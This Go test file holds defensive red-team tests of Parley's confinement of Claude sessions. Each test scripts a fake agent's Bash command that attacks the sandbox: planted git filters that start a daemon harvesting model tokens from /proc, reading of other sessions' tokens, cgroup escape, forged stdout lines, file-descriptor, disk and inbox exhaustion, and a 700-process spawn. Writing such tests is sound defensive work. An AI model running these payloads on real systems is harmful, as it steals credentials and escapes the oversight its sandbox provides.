package server

import (
	"context"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"parley/runner/fakeapi"
)

// Red-team attacks on issue 27's confinement that the other attack files
// do not cover: each plays a member's Claude with a shell as the
// project's uid, through the real CLI, as serve runs it.

// TestRedteamGitFilterOutlivesTheRun: git, which Parley runs on a worktree
// project's repository as the project's uid, executes what the
// repository's config says (a smudge filter, here, named in
// $GIT_DIR/info/attributes so no commit is needed). Session 1's Bash plants
// one that starts a daemon. Session 2's first run makes its worktree, so
// Parley's git runs the filter: outside any run, its cgroup and its pid
// namespace. The daemon must not outlive that git, and must never read a
// run's model token from /proc/<pid>/environ (same uid, but another pid
// namespace).
func TestRedteamGitFilterOutlivesTheRun(t *testing.T) {
	t.Run("uid", func(t *testing.T) { gitFilterDaemon(t, "uid") })
	t.Run("bwrap", func(t *testing.T) { gitFilterDaemon(t, "bwrap") })
}

func gitFilterDaemon(t *testing.T, isolation string) {
	mark := marker(t)
	hold := make(chan struct{})
	var once bool
	release := func() {
		if !once {
			once = true
			close(hold)
		}
	}
	defer release()
	sc := fakeapi.Scenario{
		{ToolName: "Bash"}, // set below, once the repository is known
		{Text: "OUT " + fakeapi.ToolResultPlaceholder},
		{Text: "Session two is working.", Hold: hold},
	}
	e := newEnv(t, sc, envOptions{quiet: true, isolation: isolation, guard: true, runConfig: confineRuns(t)})
	repo := gitRepo(t)
	e.useRepo(repo)
	harvest := filepath.Join(repo, ".git", "harvest")
	t.Cleanup(func() {
		for _, pid := range procsWith(mark) {
			_ = syscall.Kill(pid, syscall.SIGKILL)
		}
	})
	e.fake.SetStep(0, fakeapi.Step{ToolName: "Bash", ToolInput: map[string]any{"command": plantFilter(mark)}})

	s1 := e.newSession()
	w1 := e.dial(s1.ID, 0)
	w1.prompt("plant a filter")
	w1.waitFor(120*time.Second, "OUT ", "Done ·")
	out, _ := e.lastToolResult(2)
	t.Logf("planting printed:\n%s", out)
	t.Logf("the CLI's requests reach the model with Accept-Encoding %q", e.fake.Requests()[0].Header.Get("Accept-Encoding"))
	if !strings.Contains(out, "PLANTED") {
		t.Fatalf("the filter was not planted: %q", out)
	}
	e.sup.Stop(s1.ID)

	// Session 2: its worktree's checkout runs the filter.
	s2 := e.newSession()
	w2 := e.dial(s2.ID, 0)
	w2.prompt("work")
	wctx, cancel := context.WithTimeout(t.Context(), 90*time.Second)
	defer cancel()
	if err := e.fake.WaitRequests(wctx, 3); err != nil {
		t.Fatalf("session 2 never asked the model: %v", err)
	}
	r2, ok := e.sup.Live(s2.ID)
	if !ok {
		t.Fatal("session 2 has no live run")
	}
	token := r2.Spec().ModelToken
	ran, _ := os.ReadFile(filepath.Join(repo, ".git", "filter-ran"))
	if len(ran) == 0 {
		t.Fatal("Parley's git never ran the planted filter: nothing was tested")
	}
	// Give the daemon time to look at /proc while session 2's run is live.
	time.Sleep(3 * time.Second)
	release()
	w2.waitFor(60*time.Second, "Session two is working.")
	e.sup.Stop(s2.ID)
	time.Sleep(2 * time.Second)

	got, _ := os.ReadFile(harvest)
	if token != "" && strings.Contains(string(got), token) {
		t.Errorf("a daemon started by Parley's git read session 2's model token from /proc (harvested %d bytes)", len(got))
	}
	if pids := procsWith(mark); len(pids) > 0 {
		t.Errorf("%d processes started by the repository's filter outlived git, session 1's and session 2's runs (pids %v)", len(pids), pids)
	}
	e.healthy()
}

// plantFilter is session 1's Bash: a smudge filter for every file, in the
// repository's common git dir, whose first run starts a daemon (mark in
// its command line) that copies every parley-run- token it can read in
// /proc to $GIT_DIR/harvest.
func plantFilter(mark string) string {
	daemon := `while :; do for p in /proc/[0-9]*; do tr "\\0" "\\n" < $p/environ 2>/dev/null | grep parley-run-; done | sort -u >> "$G/harvest"; sleep 0.3; done`
	return fmt.Sprintf(`G=$(git rev-parse --path-format=absolute --git-common-dir) && mkdir -p "$G/info" && echo '* filter=evil' >> "$G/info/attributes" && cat > "$G/evil.sh" <<EOF
#!/bin/sh
export G="$G"
echo ran >> "\$G/filter-ran"
if mkdir "\$G/started" 2>/dev/null; then
  setsid sh -c '%s' %s </dev/null >/dev/null 2>&1 &
fi
exec cat
EOF
chmod +x "$G/evil.sh" && git config -f "$G/config" filter.evil.smudge "$G/evil.sh" && echo PLANTED`,
		strings.ReplaceAll(daemon, "$", `\$`), mark)
}

// TestRedteamGatewayConnectionsHoldParleysFiles: a run's Bash opens 4,000
// connections to its gateway address (the relay's loopback port; in
// bubblewrap, through sandbox-relay to gateway.sock), sends one complete
// request on each and keeps them open, idle. Each costs Parley a file
// descriptor and a goroutine; serve's relay server has no idle timeout, and
// a run may raise its own RLIMIT_NOFILE to the hard limit Parley has too
// (20,000 here), so one run could take every descriptor Parley has: no
// browser, database connection or other run gets one. Parley must not
// hold more than a bounded number for one run after 12 s of idleness.
func TestRedteamGatewayConnectionsHoldParleysFiles(t *testing.T) {
	t.Skip("redteam: open, see report")
	t.Run("uid", func(t *testing.T) { gatewayConnections(t, "uid") })
	t.Run("bwrap", func(t *testing.T) { gatewayConnections(t, "bwrap") })
}

func gatewayConnections(t *testing.T, isolation string) {
	const conns, bound = 4000, 1000
	cmd := fmt.Sprintf(`ulimit -n %d; hp=${ANTHROPIC_BASE_URL#http://}; hp=${hp%%%%/*}; h=${hp%%:*}; p=${hp##*:}; n=0; `+
		`for i in $(seq %d); do exec {fd}<>/dev/tcp/$h/$p || break; printf 'GET /held HTTP/1.1\r\nHost: x\r\n\r\n' >&$fd; n=$((n+1)); done; `+
		`echo $n > held.txt; sleep 25; echo "held $n"`, conns+200, conns)
	sc := fakeapi.Scenario{
		{ToolName: "Bash", ToolInput: map[string]any{"command": cmd, "timeout": 120000}},
		{Text: "OUT " + fakeapi.ToolResultPlaceholder},
	}
	e := newEnv(t, sc, envOptions{quiet: true, isolation: isolation, guard: true, runConfig: confineRuns(t)})
	settings := e.project.ProjectSettings
	settings.AllowedTools = []string{"Bash"}
	if err := e.st.UpdateProjectSettings(t.Context(), e.project.ID, settings, ""); err != nil {
		t.Fatal(err)
	}
	before := openFiles()
	s := e.newSession()
	w := e.dial(s.ID, 0)
	w.prompt("hold connections")
	held := filepath.Join(WorkspaceDir(e.dataDir, e.project), "held.txt")
	var n string
	for deadline := time.Now().Add(90 * time.Second); n == ""; time.Sleep(200 * time.Millisecond) {
		b, _ := os.ReadFile(held)
		n = strings.TrimSpace(string(b))
		if time.Now().After(deadline) {
			t.Fatal("the run never reported its connections")
		}
	}
	time.Sleep(12 * time.Second)
	during := openFiles()
	e.healthy()
	w.waitFor(120*time.Second, "OUT ", "Done ·")
	t.Logf("the run opened %s connections; Parley's open files: %d before, %d after 12 s idle", n, before, during)
	if during-before > bound {
		t.Errorf("one run holds %d of Parley's file descriptors (%s idle connections to the gateway), want at most %d", during-before, n, bound)
	}
}

// openFiles counts this process's (Parley's) open file descriptors.
func openFiles() int {
	ents, _ := os.ReadDir("/proc/self/fd")
	return len(ents)
}

// TestRedteamRelayServesOnlyTheModelAndAsks: a run's Bash talks raw HTTP to
// its gateway address (the relay's loopback port; in bubblewrap,
// gateway.sock through sandbox-relay) for everything but the Messages
// API: Parley's web pages and /metrics, the upstream's other APIs, a path
// that climbs out, and the ask relay's endpoints with the run's model
// token or a made-up run token. Nothing answers 200.
func TestRedteamRelayServesOnlyTheModelAndAsks(t *testing.T) {
	t.Run("uid", func(t *testing.T) { relayRoutes(t, "uid") })
	t.Run("bwrap", func(t *testing.T) { relayRoutes(t, "bwrap") })
}

func relayRoutes(t *testing.T, isolation string) {
	cmd := `B=$ANTHROPIC_BASE_URL; K="x-api-key: $ANTHROPIC_API_KEY"; ` +
		`for p in /metrics / /login /healthz /projects /admin /v1/models /v1/files /v1/messages/batches /v1/organizations/me; do ` +
		`echo "GET $p $(curl -s -o /dev/null -w '%{http_code}' -H "$K" "$B$p")"; done; ` +
		`echo "POST /v1/files $(curl -s -o /dev/null -w '%{http_code}' -H "$K" -X POST -d x "$B/v1/files")"; ` +
		`echo "CLIMB $(curl --path-as-is -s -o /dev/null -w '%{http_code}' -H "$K" "$B/v1/messages/../../metrics")"; ` +
		`echo "ASK-MODEL-TOKEN $(curl -s -o /dev/null -w '%{http_code}' -X POST -H "Authorization: Bearer $ANTHROPIC_API_KEY" -d '{"question":"q","options":["a","b"]}' "$B/ask")"; ` +
		`echo "ASK-GUESS $(curl -s -o /dev/null -w '%{http_code}' -X POST -H 'Authorization: Bearer parley-run-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' -d '{"question":"q"}' "$B/ask")"; ` +
		`echo "MCP-ASK-MODEL-TOKEN $(curl -s -o /dev/null -w '%{http_code}' -X POST -H "Authorization: Bearer $ANTHROPIC_API_KEY" -H 'content-type: application/json' -H 'accept: application/json, text/event-stream' ` +
		`-d '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"x","version":"1"}}}' "$B/mcp-ask")"; echo END`
	sc := fakeapi.Scenario{
		{ToolName: "Bash", ToolInput: map[string]any{"command": cmd}},
		{Text: "OUT " + fakeapi.ToolResultPlaceholder},
	}
	e := newEnv(t, sc, envOptions{quiet: true, isolation: isolation, guard: true, runConfig: confineRuns(t)})
	settings := e.project.ProjectSettings
	settings.AllowedTools = []string{"Bash"}
	if err := e.st.UpdateProjectSettings(t.Context(), e.project.ID, settings, ""); err != nil {
		t.Fatal(err)
	}
	s := e.newSession()
	w := e.dial(s.ID, 0)
	w.prompt("probe the relay")
	w.waitFor(120*time.Second, "OUT ", "Done ·")
	out, _ := e.lastToolResult(2)
	t.Logf("the relay answered:\n%s", out)
	if !strings.Contains(out, "END") || strings.Count(out, "\n") < 15 {
		t.Fatalf("the probe did not run whole: %q", out)
	}
	for line := range strings.Lines(out) {
		f := strings.Fields(line)
		if len(f) < 2 {
			continue
		}
		if code := f[len(f)-1]; code == "000" || strings.HasPrefix(code, "2") {
			t.Errorf("the relay answered %s: %s", code, strings.TrimSpace(line))
		}
	}
	if n := len(e.fake.SideRequests()); n > 0 {
		t.Errorf("%d of the probe's requests reached the model's upstream", n)
	}
	e.healthy()
}

// TestRedteamRemovedMembersFilterStillRuns: a member's Claude plants a
// clean and smudge filter in the repository's own git dir (not in any
// file of the tree, so no diff or merge shows it). The member is removed.
// An owner then views the member's session and starts a session of their
// own: Parley's git, as the project's uid, must not run what the removed
// member planted (in uid mode it could still send the project's code
// anywhere: runs' network is not confined).
func TestRedteamRemovedMembersFilterStillRuns(t *testing.T) {
	t.Skip("redteam: open, see report")
	t.Run("uid", func(t *testing.T) { removedMembersFilter(t, "uid") })
	t.Run("bwrap", func(t *testing.T) { removedMembersFilter(t, "bwrap") })
}

func removedMembersFilter(t *testing.T, isolation string) {
	plant := `G=$(git rev-parse --path-format=absolute --git-common-dir) && mkdir -p "$G/info" && echo '* filter=evil' >> "$G/info/attributes" && ` +
		`printf '#!/bin/sh\necho "$(id -u) $1" >> "%s/filter-ran"\nexec cat\n' "$G" > "$G/evil.sh" && chmod +x "$G/evil.sh" && ` +
		`git config -f "$G/config" filter.evil.smudge "$G/evil.sh smudge" && git config -f "$G/config" filter.evil.clean "$G/evil.sh clean" && echo PLANTED`
	sc := fakeapi.Scenario{
		{ToolName: "Bash", ToolInput: map[string]any{"command": plant}},
		{Text: "OUT " + fakeapi.ToolResultPlaceholder},
		{Text: "Owners session here."},
	}
	e := newEnv(t, sc, envOptions{quiet: true, isolation: isolation, guard: true, runConfig: confineRuns(t)})
	repo := gitRepo(t)
	e.useRepo(repo)
	owner := e.member("owner@example.com", "Owner", roleOwner)
	s1 := e.newSession()
	w1 := e.dial(s1.ID, 0)
	w1.prompt("plant")
	w1.waitFor(120*time.Second, "OUT ", "Done ·")
	if out, _ := e.lastToolResult(2); !strings.Contains(out, "PLANTED") {
		t.Fatalf("the filter was not planted: %q", out)
	}
	res := e.postAs(owner, fmt.Sprintf("/projects/%d/settings/members/%d/remove", e.project.ID, e.user.ID), nil)
	res.Body.Close()
	if res.StatusCode != http.StatusOK && res.StatusCode != http.StatusSeeOther {
		t.Fatalf("remove the member: %d", res.StatusCode)
	}
	ran := filepath.Join(repo, ".git", "filter-ran")
	os.Remove(ran)

	// The owner looks at the removed member's session, then starts one.
	e.getAs(owner, "/sessions/"+s1.ID)
	s2, err := e.st.CreateSessionBy(t.Context(), e.project.ID, "mine", owner.Name, owner.ID)
	if err != nil {
		t.Fatal(err)
	}
	w2 := e.dialAs(owner, s2.ID, 0)
	w2.prompt("my work")
	w2.waitFor(60*time.Second, "Owners session here.", "Done ·")
	if b, _ := os.ReadFile(ran); len(b) > 0 {
		t.Errorf("after the member's removal Parley's git ran the filter they planted %d times (uid, mode: %q)",
			strings.Count(string(b), "\n"), strings.Fields(string(b)))
	}
	e.healthy()
}

// TestRedteamSessionReadsAnotherSessionsToken: two sessions of one project
// run as the same uid. While session 2's run is live, session 1's Bash
// reads every /proc/<pid>/environ and cmdline it can see, and tries
// session 2's run directly by its host pid: each run's pid namespace
// must keep session 2's model token out of its reach.
func TestRedteamSessionReadsAnotherSessionsToken(t *testing.T) {
	t.Run("uid", func(t *testing.T) { sessionToken(t, "uid") })
	t.Run("bwrap", func(t *testing.T) { sessionToken(t, "bwrap") })
}

func sessionToken(t *testing.T, isolation string) {
	hold := make(chan struct{})
	defer close(hold)
	sc := fakeapi.Scenario{
		{Text: "Session two holds.", Hold: hold},
		{ToolName: "Bash"}, // set once session 2's pid is known
		{Text: "OUT " + fakeapi.ToolResultPlaceholder},
	}
	e := newEnv(t, sc, envOptions{quiet: true, isolation: isolation, guard: true, runConfig: confineRuns(t)})
	settings := e.project.ProjectSettings
	settings.AllowedTools = []string{"Bash"}
	if err := e.st.UpdateProjectSettings(t.Context(), e.project.ID, settings, ""); err != nil {
		t.Fatal(err)
	}
	s2 := e.newSession()
	w2 := e.dial(s2.ID, 0)
	w2.prompt("hold")
	wctx, cancel := context.WithTimeout(t.Context(), 60*time.Second)
	defer cancel()
	if err := e.fake.WaitRequests(wctx, 1); err != nil {
		t.Fatal(err)
	}
	r2, ok := e.sup.Live(s2.ID)
	if !ok {
		t.Fatal("session 2 has no live run")
	}
	token := r2.Spec().ModelToken
	cmd := fmt.Sprintf(`for p in /proc/[0-9]*; do tr '\0' '\n' < $p/environ 2>/dev/null; tr '\0' ' ' < $p/cmdline 2>/dev/null; echo; done | grep -o 'parley-run-[A-Za-z0-9_-]*' | sort -u | sed 's/^/SEEN /'; `+
		`cat /proc/%[1]d/environ; kill -0 %[1]d && echo SIGNALLED; echo MINE $ANTHROPIC_API_KEY`, r2.Pid())
	e.fake.SetStep(1, fakeapi.Step{ToolName: "Bash", ToolInput: map[string]any{"command": cmd}})
	s1 := e.newSession()
	w1 := e.dial(s1.ID, 0)
	w1.prompt("look for tokens")
	w1.waitFor(120*time.Second, "OUT ", "Done ·")
	out, _ := e.lastToolResult(3)
	t.Logf("session 1 saw:\n%s", out)
	if !strings.Contains(out, "MINE parley-run-") {
		t.Fatalf("the probe did not run: %q", out)
	}
	if strings.Contains(out, token) {
		t.Errorf("session 1's Bash read session 2's model token")
	}
	if strings.Contains(out, "SIGNALLED") {
		t.Errorf("session 1's Bash may signal session 2's run (host pid %d)", r2.Pid())
	}
}

// TestRedteamDiskHeldByOneRun: each file a run writes is capped
// (RLIMIT_FSIZE, 1 GiB by default), but not what it writes in all. A run's
// Bash allocates four files of 1,000 MiB each (fallocate: no data is
// written, the blocks are the file system's all the same). The data
// directory shares its file system with PostgreSQL here, so what one run
// holds must be bounded (a per-project quota): at most 2 GiB.
func TestRedteamDiskHeldByOneRun(t *testing.T) {
	t.Skip("redteam: open, see report")
	t.Run("uid", func(t *testing.T) { diskHeld(t, "uid") })
	t.Run("bwrap", func(t *testing.T) { diskHeld(t, "bwrap") })
}

func diskHeld(t *testing.T, isolation string) {
	cmd := `for i in 1 2 3 4; do fallocate -l 1000M big$i.bin || echo FAILED $i; done; echo "HELD $(du -sm --total big*.bin | tail -1 | cut -f1) MiB"; rm -f big*.bin`
	sc := fakeapi.Scenario{
		{ToolName: "Bash", ToolInput: map[string]any{"command": cmd}},
		{Text: "OUT " + fakeapi.ToolResultPlaceholder},
	}
	e := newEnv(t, sc, envOptions{quiet: true, isolation: isolation, guard: true, runConfig: confineRuns(t)})
	settings := e.project.ProjectSettings
	settings.AllowedTools = []string{"Bash"}
	if err := e.st.UpdateProjectSettings(t.Context(), e.project.ID, settings, ""); err != nil {
		t.Fatal(err)
	}
	s := e.newSession()
	w := e.dial(s.ID, 0)
	w.prompt("fill the disk")
	w.waitFor(120*time.Second, "OUT ", "Done ·")
	out, _ := e.lastToolResult(2)
	t.Logf("the run printed:\n%s", out)
	var held int
	if _, after, ok := strings.Cut(out, "HELD "); ok {
		fmt.Sscanf(after, "%d", &held)
	}
	if held > 2048 {
		t.Errorf("one run held %d MiB of the data directory's file system in four files", held)
	}
}

// TestRedteamForgedHugeStdoutLines: a run's Bash finds its claude process
// (same uid, same pid namespace) and writes straight into its stdout, the
// pipe Parley reads events from: three forged lines of 30 MB each. The
// CLI's own lines are bounded by what it prints (tool results are cut to
// 30,000 characters), so nothing but a forgery is that long; a run must
// not write unbounded data into Parley's database (outside any per-run
// file cap or quota), nor into every viewer's page.
func TestRedteamForgedHugeStdoutLines(t *testing.T) {
	t.Run("uid", func(t *testing.T) { forgedLines(t, "uid") })
	t.Run("bwrap", func(t *testing.T) { forgedLines(t, "bwrap") })
}

func forgedLines(t *testing.T, isolation string) {
	cmd := `c=$PPID; while [ "$c" -gt 1 ] && [ "$(cat /proc/$c/comm)" != claude ]; do c=$(awk '{print $4}' /proc/$c/stat); done; ` +
		`echo "claude=$c stdout=$(readlink /proc/$c/fd/1)"; ` +
		`for i in 1 2 3; do { printf '{"type":"system","subtype":"forged","blob":"'; head -c 30000000 /dev/zero | tr '\0' A; printf '"}\n'; } > /proc/$c/fd/1 || echo WRITE-FAILED; done; echo WROTE`
	sc := fakeapi.Scenario{
		{ToolName: "Bash", ToolInput: map[string]any{"command": cmd}},
		{Text: "OUT " + fakeapi.ToolResultPlaceholder},
	}
	e := newEnv(t, sc, envOptions{quiet: true, isolation: isolation, guard: true, runConfig: confineRuns(t)})
	settings := e.project.ProjectSettings
	settings.AllowedTools = []string{"Bash"}
	if err := e.st.UpdateProjectSettings(t.Context(), e.project.ID, settings, ""); err != nil {
		t.Fatal(err)
	}
	s := e.newSession()
	w := e.dial(s.ID, 0)
	w.prompt("write to claude's stdout")
	w.waitFor(180*time.Second, "OUT ", "Done ·")
	out, _ := e.lastToolResult(2)
	t.Logf("the run printed:\n%s", out)
	var stored int64
	e.queryRow(`SELECT coalesce(sum(octet_length(payload::text)), 0) FROM events WHERE session_id = $1`, []any{s.ID}, &stored)
	page := e.getAs(e.user, "/sessions/"+s.ID)
	t.Logf("the session's events hold %d bytes; its page is %d bytes", stored, len(page))
	if stored > 10<<20 {
		t.Errorf("a run wrote %d MB into Parley's database through its claude's stdout", stored>>20)
	}
	e.healthy()
}

// TestRedteamLeaveTheRunsCgroup: a run's Bash tries to move itself out of
// its cgroup (into any cgroup of any hierarchy it can see: the root, the
// parent, a sibling), where its task and memory limits would not hold and
// the run's end would not kill it, and to raise its own limits.
func TestRedteamLeaveTheRunsCgroup(t *testing.T) {
	t.Run("uid", func(t *testing.T) { leaveCgroup(t, "uid") })
	t.Run("bwrap", func(t *testing.T) { leaveCgroup(t, "bwrap") })
}

func leaveCgroup(t *testing.T, isolation string) {
	cmd := `cat /proc/self/cgroup | sed 's/^/IN /'; ` +
		`for f in $(find /sys/fs/cgroup -maxdepth 6 \( -name tasks -o -name cgroup.procs \) 2>/dev/null); do echo $$ 2>/dev/null > $f && echo "MOVED $f"; done; ` +
		`for f in $(find /sys/fs/cgroup -maxdepth 6 \( -name pids.max -o -name memory.limit_in_bytes -o -name memory.max \) 2>/dev/null); do echo max 2>/dev/null > $f && echo "RAISED $f"; done; ` +
		`echo TRIED`
	sc := fakeapi.Scenario{
		{ToolName: "Bash", ToolInput: map[string]any{"command": cmd}},
		{Text: "OUT " + fakeapi.ToolResultPlaceholder},
	}
	e := newEnv(t, sc, envOptions{quiet: true, isolation: isolation, guard: true, runConfig: confineRuns(t)})
	settings := e.project.ProjectSettings
	settings.AllowedTools = []string{"Bash"}
	if err := e.st.UpdateProjectSettings(t.Context(), e.project.ID, settings, ""); err != nil {
		t.Fatal(err)
	}
	s := e.newSession()
	w := e.dial(s.ID, 0)
	w.prompt("leave the cgroup")
	w.waitFor(120*time.Second, "OUT ", "Done ·")
	out, _ := e.lastToolResult(2)
	t.Logf("the run printed:\n%s", out)
	if !strings.Contains(out, "TRIED") {
		t.Fatalf("the probe did not run: %q", out)
	}
	if r, ok := e.sup.Live(s.ID); ok {
		cg, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cgroup", r.Pid()))
		t.Logf("the run's first process (host pid %d) is in:\n%s", r.Pid(), cg)
		if !strings.Contains(string(cg), "pids:/parley/") {
			t.Errorf("the run is in no cgroup of Parley's: %s", cg)
		}
	}
	for _, bad := range []string{"MOVED", "RAISED"} {
		if strings.Contains(out, bad) {
			t.Errorf("the run could change its cgroup: %s", bad)
		}
	}
}

// TestRedteamAskFlood: a run's Bash reads its ask_user relay token from
// $ASK_USER_CONFIG and posts 200 questions of 200 KB each, 20 at a time,
// each given up after a second. Every one may become an open ask in the
// members' inbox and 200 KB in Parley's database: asks must be bounded
// per run (say 20 open), not one per request a run can send.
func TestRedteamAskFlood(t *testing.T) {
	t.Skip("redteam: open, see report")
	t.Run("uid", func(t *testing.T) { askFlood(t, "uid") })
	t.Run("bwrap", func(t *testing.T) { askFlood(t, "bwrap") })
}

func askFlood(t *testing.T, isolation string) {
	cmd := `T=$(sed -n 's/.*"token": *"\([^"]*\)".*/\1/p' "$ASK_USER_CONFIG"); U=$(sed -n 's/.*"url": *"\([^"]*\)".*/\1/p' "$ASK_USER_CONFIG"); ` +
		`echo "relay=$U"; Q=$(head -c 200000 /dev/zero | tr '\0' Q); ` +
		`printf '{"questions":[{"question":"%s %s","header":"Flood","multiSelect":false,"options":[{"label":"a","description":"a"},{"label":"b","description":"b"}]}]}' "$Q" x > q.json; ` +
		`for i in $(seq 200); do curl -s -o /dev/null -w '%{http_code}\n' --max-time 1 -X POST -H "Authorization: Bearer $T" -H 'content-type: application/json' --data-binary @q.json "$U" >> codes.txt & ` +
		`if [ $((i % 20)) = 0 ]; then wait; fi; done; wait; sort codes.txt | uniq -c; rm -f q.json codes.txt; echo ASKED`
	sc := fakeapi.Scenario{
		{ToolName: "Bash", ToolInput: map[string]any{"command": cmd, "timeout": 300000}},
		{Text: "OUT " + fakeapi.ToolResultPlaceholder},
	}
	e := newEnv(t, sc, envOptions{quiet: true, isolation: isolation, guard: true, runConfig: confineRuns(t)})
	settings := e.project.ProjectSettings
	settings.AllowedTools = []string{"Bash"}
	if err := e.st.UpdateProjectSettings(t.Context(), e.project.ID, settings, ""); err != nil {
		t.Fatal(err)
	}
	s := e.newSession()
	w := e.dial(s.ID, 0)
	w.prompt("flood the inbox")
	w.waitFor(300*time.Second, "OUT ", "Done ·")
	out, _ := e.lastToolResult(2)
	t.Logf("the run printed:\n%s", out)
	if !strings.Contains(out, "ASKED") {
		t.Fatalf("the flood did not run: %q", out)
	}
	pending, err := e.st.PendingInputs(t.Context(), s.ID)
	if err != nil {
		t.Fatal(err)
	}
	var asks, stored int64
	e.queryRow(`SELECT count(*), coalesce(sum(octet_length(payload::text)), 0) FROM events WHERE session_id = $1 AND type = 'input_requested'`,
		[]any{s.ID}, &asks, &stored)
	t.Logf("%d asks recorded (%d MB), %d still open", asks, stored>>20, len(pending))
	if asks > 20 || len(pending) > 20 {
		t.Errorf("one run opened %d asks (%d MB in the database), %d still open in the members' inbox", asks, stored>>20, len(pending))
	}
	e.healthy()
}

// TestRedteamGitFilterEscapesTheTaskLimit: a run's tasks are capped (512)
// in its cgroup, but Parley's git runs as the project's uid outside any
// run's cgroup. A clean filter planted by session 1's Bash starts 700
// processes when a page view's diff stages the worktree. The project's
// processes must stay under the run's task limit wherever git starts them.
func TestRedteamGitFilterEscapesTheTaskLimit(t *testing.T) {
	t.Skip("redteam: open, see report")
	t.Run("uid", func(t *testing.T) { filterTasks(t, "uid") })
	t.Run("bwrap", func(t *testing.T) { filterTasks(t, "bwrap") })
}

func filterTasks(t *testing.T, isolation string) {
	mark := marker(t)
	plant := fmt.Sprintf(`G=$(git rev-parse --path-format=absolute --git-common-dir) && mkdir -p "$G/info" && echo '* filter=many' >> "$G/info/attributes" && `+
		`printf '#!/bin/bash\nif mkdir "%%s/spawned" 2>/dev/null; then for i in $(seq 700); do (exec -a %s sleep 15) & done; sleep 4; fi\nexec cat\n' "$G" > "$G/many.sh" && `+
		`git config -f "$G/config" filter.many.clean "bash $G/many.sh" && echo PLANTED`, mark)
	sc := fakeapi.Scenario{
		{ToolName: "Bash", ToolInput: map[string]any{"command": plant}},
		{Text: "OUT " + fakeapi.ToolResultPlaceholder},
	}
	e := newEnv(t, sc, envOptions{quiet: true, isolation: isolation, guard: true, runConfig: confineRuns(t)})
	repo := gitRepo(t)
	e.useRepo(repo)
	t.Cleanup(func() {
		for _, pid := range procsWith(mark) {
			_ = syscall.Kill(pid, syscall.SIGKILL)
		}
	})
	s := e.newSession()
	w := e.dial(s.ID, 0)
	w.prompt("plant")
	w.waitFor(120*time.Second, "OUT ", "Done ·")
	if out, _ := e.lastToolResult(2); !strings.Contains(out, "PLANTED") {
		t.Fatalf("the filter was not planted: %q", out)
	}
	e.sup.Stop(s.ID)
	done := make(chan int)
	go func() {
		most := 0
		for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
			most = max(most, len(procsWith(mark)))
		}
		done <- most
	}()
	e.getAs(e.user, "/sessions/"+s.ID) // the page's diff stages the worktree: git add -A
	most := <-done
	t.Logf("at most %d of the filter's processes ran at once", most)
	if _, err := os.Stat(filepath.Join(repo, ".git", "spawned")); err != nil {
		t.Fatal("the page view's git never ran the filter: nothing was tested")
	}
	if most > 512 {
		t.Errorf("Parley's git started %d processes for the project outside its runs' task limit of 512", most)
	}
	e.healthy()
}
